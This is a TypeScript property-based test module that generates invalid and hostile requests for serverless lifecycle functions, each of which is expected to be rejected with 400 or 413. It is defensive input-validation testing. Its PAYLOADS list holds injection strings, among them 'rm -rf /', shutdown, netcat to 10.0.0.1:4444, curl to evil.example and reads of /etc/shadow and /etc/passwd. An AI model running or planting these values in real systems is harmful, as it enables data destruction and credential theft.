/*
 * Requests no function may act on, as fast-check arbitraries: options with unknown or mistyped
 * fields, bodies that are not a JSON object, CloudEvents with broken attributes or data, events a
 * function does not consume, structured and batched events in the wrong shape, wrong content
 * types, bodies that are not UTF-8, and bodies over the limit. Strings are seasoned with SQL and
 * shell metacharacters. Every request here must be answered 400 or 413.
 */
import fc from 'fast-check';
import { EventTypes, PING_EVENT_TYPE } from '../../shared/events/types.js';
import { typesConsumedBy } from '../../shared/events/routing.js';
import type { FunctionName } from '../../shared/runtime/invocation.js';

export interface HostileRequest {
  family: string;
  headers: Record<string, string>;
  body: Buffer;
  /** 413 for an oversized body, 400 for everything else. */
  expected: 400 | 413;
}

const PAYLOADS = [
  `'; drop table reservations; --`,
  `" or 1=1 --`,
  `$(rm -rf /)`,
  '`reboot`',
  '; shutdown -h now',
  '| nc 10.0.0.1 4444',
  '../../etc/passwd',
  '%00',
  '\u0000',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '${IFS}cat${IFS}/etc/shadow',
  '&& curl evil.example',
  `\\'; select pg_sleep(10); --`,
  'vol-../../',
  'snap-$(id)',
  '\n\r\t',
  'Ω≈ç√∫',
  '\ud83d\ude00',
];

/** A string that is either a known attack, arbitrary text, or text with an attack inside it. */
export const hostileString = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc.string({ maxLength: 40 }),
  fc
    .tuple(fc.string({ maxLength: 10 }), fc.constantFrom(...PAYLOADS), fc.string({ maxLength: 10 }))
    .map((parts) => parts.join('')),
);
// Header values must be printable ASCII to be sent at all; the attacks in PAYLOADS mostly are.
const headerString = fc
  .oneof(
    fc.constantFrom(...PAYLOADS.filter((p) => /^[\x20-\x7e]+$/.test(p))),
    fc.string({ unit: 'grapheme-ascii', maxLength: 40 }),
  )
  .map((s) => s.replace(/[^\x20-\x7e]/g, '').trim() || 'x');

const KNOWN_OPTIONS = new Set(['dryRun', 'maxItems', 'labId', 'olderThanMinutes', 'maxLabs', 'action']);
const anyJson = fc.oneof(
  hostileString,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(hostileString, { maxLength: 3 }),
);
const unknownKey = hostileString.filter((key) => !KNOWN_OPTIONS.has(key) && key !== '__proto__');

function badOptionsFor(fn: FunctionName): fc.Arbitrary<Record<string, unknown>> {
  const wrongTyped: fc.Arbitrary<Record<string, unknown>>[] = [
    fc.record({ dryRun: fc.oneof(hostileString, fc.integer(), fc.constant(null)) }),
    fc.record({
      maxItems: fc.oneof(
        fc.integer({ max: 0 }),
        hostileString,
        fc.double({ noInteger: true, noNaN: true }),
        fc.constant(null),
      ),
    }),
  ];
  if (fn === 'ending-watchdog') {
    wrongTyped.push(
      fc.record({ labId: hostileString }),
      fc.record({ olderThanMinutes: fc.oneof(fc.integer({ max: 0 }), hostileString) }),
      fc.record({
        maxLabs: fc.oneof(fc.integer({ max: 0 }), hostileString, fc.double({ noInteger: true, noNaN: true })),
      }),
      fc.record({ action: hostileString.filter((a) => a !== 'force' && a !== 'fail') }),
    );
  }
  const unknown = fc
    .tuple(unknownKey, anyJson, fc.boolean())
    .map(([key, value, dry]) => ({ ...(dry && { dryRun: true }), [key]: value }));
  return fc.oneof(unknown, ...wrongTyped);
}

const json = (value: unknown) => Buffer.from(JSON.stringify(value));

function optionsRequests(fn: FunctionName): fc.Arbitrary<HostileRequest> {
  return fc
    .tuple(badOptionsFor(fn), fc.constantFrom('manual-json', 'manual-text', 'cron', 'pingsource'), fc.uuid())
    .map(([options, via, id]) => {
      if (via === 'pingsource') {
        return {
          family: 'options',
          expected: 400,
          body: json(options),
          headers: {
            'ce-specversion': '1.0',
            'ce-id': id,
            'ce-type': PING_EVENT_TYPE,
            'ce-source': '/apis/v1/namespaces/openfaas/pingsources/tick',
            'content-type': 'application/json',
          },
        };
      }
      const headers: Record<string, string> =
        via === 'cron'
          ? { 'x-connector': 'cron-connector' }
          : { 'content-type': via === 'manual-text' ? 'text/plain' : 'application/json' };
      return { family: 'options', expected: 400, headers, body: json(options) };
    });
}

/** Text that is not one JSON object: a manual call with it has no options to run with. */
const notAnObject = fc
  .oneof(hostileString, fc.json(), fc.constantFrom('{', '{"dryRun":', '[]', 'null', '"{}"', '{"a":1}}'))
  .filter((text) => {
    if (text.trim() === '') return false;
    try {
      const value: unknown = JSON.parse(text);
      return typeof value !== 'object' || value === null || Array.isArray(value);
    } catch {
      return true;
    }
  });

const ALL_TYPES = Object.values(EventTypes);

/** A consumed type with data of the wrong shape, a type this function does not consume, or an unknown type. */
function brokenEvent(fn: FunctionName): fc.Arbitrary<{ type: string; data: unknown }> {
  const consumed = typesConsumedBy(fn);
  const notConsumed = ALL_TYPES.filter((type) => !(consumed as string[]).includes(type));
  const badData = fc.oneof(hostileString, fc.integer(), fc.constant(null), fc.array(anyJson, { maxLength: 2 }));
  const strictExtra = fc
    .tuple(unknownKey, hostileString)
    .map(([key, value]) => ({ reservationId: value, [key]: value }));
  return fc.oneof(
    ...(consumed.length > 0
      ? [fc.record({ type: fc.constantFrom(...consumed), data: fc.oneof(badData, strictExtra) })]
      : []),
    fc.record({ type: fc.constantFrom(...notConsumed), data: anyJson }),
    fc.record({ type: headerString.map((s) => `dev.devenv.lifecycle.${s}`), data: anyJson }),
  );
}

function binaryEvents(fn: FunctionName): fc.Arbitrary<HostileRequest> {
  const attributes = fc.record(
    {
      'ce-specversion': fc.constantFrom('1.0', '1.0', '0.3', '2.0'),
      'ce-id': fc.oneof(fc.uuid(), headerString),
      'ce-source': fc.oneof(fc.constant('/devenv-lifecycle/expire'), headerString),
      'ce-subject': headerString,
    },
    { requiredKeys: ['ce-source'] },
  );
  return fc
    .tuple(brokenEvent(fn), attributes, fc.constantFrom('application/json', 'text/xml', 'text/plain'))
    .map(([event, attrs, contentType]) => ({
      family: 'binary-event',
      expected: 400,
      body: json(event.data),
      headers: { ...attrs, 'ce-type': event.type, 'content-type': contentType },
    }));
}

function structuredEvents(fn: FunctionName): fc.Arbitrary<HostileRequest> {
  const envelope = fc.tuple(brokenEvent(fn), fc.uuid(), fc.boolean()).map(([event, id, base64]) => ({
    specversion: '1.0',
    id,
    source: '/devenv-lifecycle/expire',
    type: event.type,
    ...(base64 ? { data_base64: 'JyBvciAxPTEgLS0=' } : { data: event.data }),
  }));
  return fc.oneof(
    envelope.map((body) => ({
      family: 'structured-event',
      expected: 400 as const,
      headers: { 'content-type': 'application/cloudevents+json' },
      body: json(body),
    })),
    envelope.map((body) => ({
      family: 'batch',
      expected: 400 as const,
      headers: { 'content-type': 'application/cloudevents-batch+json' },
      body: json([body]),
    })),
    notAnObject.map((text) => ({
      family: 'structured-event',
      expected: 400 as const,
      headers: { 'content-type': 'application/cloudevents+json' },
      body: Buffer.from(text),
    })),
    envelope.map((body) => ({
      family: 'content-type',
      expected: 400 as const,
      headers: { 'content-type': 'application/cloudevents+xml' },
      body: json(body),
    })),
  );
}

function malformedBodies(limitBytes: number): fc.Arbitrary<HostileRequest> {
  return fc.oneof(
    notAnObject.map((text) => ({
      family: 'malformed-json',
      expected: 400 as const,
      headers: { 'content-type': 'application/json' },
      body: Buffer.from(text),
    })),
    fc.uint8Array({ minLength: 1, maxLength: 64 }).map((bytes) => ({
      family: 'not-utf8',
      expected: 400 as const,
      headers: { 'content-type': 'application/json' },
      body: Buffer.concat([Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from(bytes)]),
    })),
    fc
      .tuple(
        fc.integer({ min: 1, max: 4 * limitBytes }),
        fc.constantFrom(...PAYLOADS.filter((p) => p.length > 2)),
        fc.constantFrom('application/json', 'application/cloudevents+json', 'text/plain'),
      )
      .map(([extra, fill, contentType]) => ({
        family: 'oversized',
        expected: 413 as const,
        headers: { 'content-type': contentType },
        body: Buffer.from(fill.repeat(Math.ceil((limitBytes + extra) / fill.length))),
      })),
  );
}

export function hostileRequests(fn: FunctionName, limitBytes: number): fc.Arbitrary<HostileRequest> {
  return fc.oneof(optionsRequests(fn), binaryEvents(fn), structuredEvents(fn), malformedBodies(limitBytes));
}
